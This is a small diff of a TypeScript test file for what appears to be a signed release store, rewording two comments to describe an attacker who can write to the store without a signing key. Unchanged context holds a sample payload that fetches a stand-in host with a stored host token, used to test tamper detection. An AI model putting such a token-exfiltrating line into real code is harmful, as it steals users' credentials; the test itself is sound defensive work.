@@ -10,7 +10,7 @@ import { storeKeys } from './store.ts';
 import { descriptorOf, folderWith, newVersionOf, type TestReleases, testReleases } from './testing.ts';
 import { ENTRY_FILE } from './version-record.ts';
 
-/* Whoever can write to the store, but has no signing key. */
+/* An attacker who can write to the store, but has no signing key. */
 
 const EVIL = Buffer.from('fetch("https://evil.example/" + localStorage.getItem("tessera.host.token"))');
 const audit = { who: 'olga', why: 'because' };
@@ -48,7 +48,7 @@ async function alterVersion(version: string): Promise<void> {
   expect(await text(storeKeys.record('markets', version))).toContain(integrityOf(EVIL));
 }
 
-/** The chain as somebody with the sources would recompute it. */
+/** The chain as an attacker with the sources would recompute it. */
 async function rewriteHistory(change: (event: ReleaseEvent) => ReleaseEvent): Promise<void> {
   let before: string | null = null;
   for (const event of await release.store.history()) {
